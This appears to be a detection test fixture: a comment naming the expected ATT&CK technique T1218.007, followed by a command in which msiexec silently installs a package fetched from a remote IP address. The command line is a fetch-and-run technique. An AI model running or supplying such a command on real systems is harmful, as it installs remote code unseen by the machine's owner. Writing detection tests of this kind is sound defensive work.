# expect: T1218.007
msiexec /q /i http://203.0.113.17/package.msi
